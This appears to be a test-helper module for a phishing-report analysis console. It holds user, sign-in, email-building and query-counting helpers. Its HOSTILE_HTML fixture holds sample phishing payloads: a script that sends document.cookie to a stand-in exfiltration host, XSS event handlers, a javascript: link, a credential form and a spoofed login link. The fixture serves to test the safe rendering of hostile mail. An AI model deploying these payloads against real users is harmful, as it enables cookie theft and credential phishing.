"""Console helpers: accounts, sign-in, analysed reports in a campaign, query counts, hostile mail."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import Engine, event, update

from watchword.domain import Channel, IncomingReport
from watchword.intake.submit import submit
from watchword.runtime import Runtime
from watchword.services import accounts
from watchword.store.models import Campaign, Report
from watchword.web.app import create_app
from watchword.worker import Worker

PASSWORD = "correct horse battery staple"
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


def add_user(rt: Runtime, username: str, role: str = "analyst", password: str = PASSWORD) -> None:
    with rt.db.write() as session:
        accounts.add_user(session, username, password, role, "test")


def csrf_of(html: str) -> str:
    match = _CSRF.search(html)
    assert match, "no CSRF field on the page"
    return match.group(1)


def console_client(rt: Runtime) -> TestClient:
    # https: the session cookie is Secure off loopback, and "testserver" is not loopback.
    return TestClient(create_app(rt), base_url="https://testserver", follow_redirects=False)


def sign_in(client: TestClient, username: str, password: str = PASSWORD) -> Any:
    form = client.get("/console/login")
    return client.post(
        "/console/login",
        data={"username": username, "password": password, "csrf": csrf_of(form.text), "next": "/console/"},
    )


def signed_in(rt: Runtime, username: str = "ana", role: str = "analyst") -> TestClient:
    add_user(rt, username, role)
    client = console_client(rt)
    assert sign_in(client, username).status_code == 303
    return client


def page_csrf(client: TestClient, url: str = "/console/") -> str:
    return csrf_of(client.get(url).text)


def email(subject: str, body: str, sender: str = "billing@evil-example.com", html: str | None = None) -> bytes:
    head = (
        f"From: Billing <{sender}>\r\nTo: staff@corp.example\r\nSubject: {subject}\r\n"
        "Message-ID: <{0}@evil-example.com>\r\nMIME-Version: 1.0\r\n".format(abs(hash(subject + body)))
    )
    if html is None:
        return (head + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n").encode()
    boundary = "b0undary"
    return (
        head + f'Content-Type: multipart/alternative; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
        f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--{boundary}--\r\n"
    ).encode()


def report_email(rt: Runtime, raw: bytes, text: str = "", contact: str | None = None) -> int:
    receipt = submit(rt, IncomingReport(channel=Channel.API, raw_email=raw, text=text, contact=contact))
    return receipt.report_id


def analyse_all(rt: Runtime) -> None:
    Worker(rt).run_until_idle()


def put_in_campaign(
    rt: Runtime, report_ids: list[int], title: str, report_scope: str | None = None, **fields: Any
) -> int:
    """A campaign made directly in the store, for tests that are not about clustering; with
    `report_scope`, its reports are given that scope too (what sharing reads)."""
    with rt.db.write() as session:
        campaign = Campaign(
            title=title,
            report_count=len(report_ids),
            member_count=len(report_ids),
            reporter_count=len(report_ids),
            sighting_count=len(report_ids),
            **fields,
        )
        session.add(campaign)
        session.flush()
        marks: dict[str, Any] = {"campaign_id": campaign.id}
        if report_scope is not None:
            marks["scope"] = report_scope
        session.execute(update(Report).where(Report.id.in_(report_ids)).values(**marks))
        return campaign.id


@contextmanager
def count_queries(engine: Engine) -> Iterator[list[str]]:
    """Every SQL statement the engine runs inside the block (BEGIN/COMMIT excluded)."""
    seen: list[str] = []

    def before(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if not statement.lstrip().upper().startswith(("BEGIN", "COMMIT", "ROLLBACK", "PRAGMA")):
            seen.append(statement)

    event.listen(engine, "before_cursor_execute", before)
    try:
        yield seen
    finally:
        event.remove(engine, "before_cursor_execute", before)


HOSTILE_HTML = """<html><head>
<link rel="stylesheet" href="https://cdn.evil-example.com/x.css">
<style>@import url(https://css.evil-example.com/i.css); body{background:url(https://bg.evil-example.com/b.png)}
.hide{display:none} a::after{content:"https://decoy.example.org"}</style>
<meta http-equiv="refresh" content="0;url=https://refresh.evil-example.com/">
</head><body onload="window.__pwned='onload'">
<script>window.__pwned='script'; fetch('https://exfil.evil-example.com/?c='+document.cookie)</script>
<img src="https://pixel.evil-example.com/open.gif" onerror="window.__pwned='onerror'">
<img src=x onerror=alert(1)>
<svg><script>window.__pwned='svg'</script></svg>
<iframe src="https://frame.evil-example.com/"></iframe>
<a href="javascript:window.__pwned='js-link'">Verify your account</a>
<a href="https://login.evil-example.com/o365">https://login.microsoftonline.com/</a>
<form action="https://post.evil-example.com/"><input name=password></form>
<p class="hide">hidden words</p><p>Your mailbox is full. Sign in to keep your mail.</p>
</body></html>"""
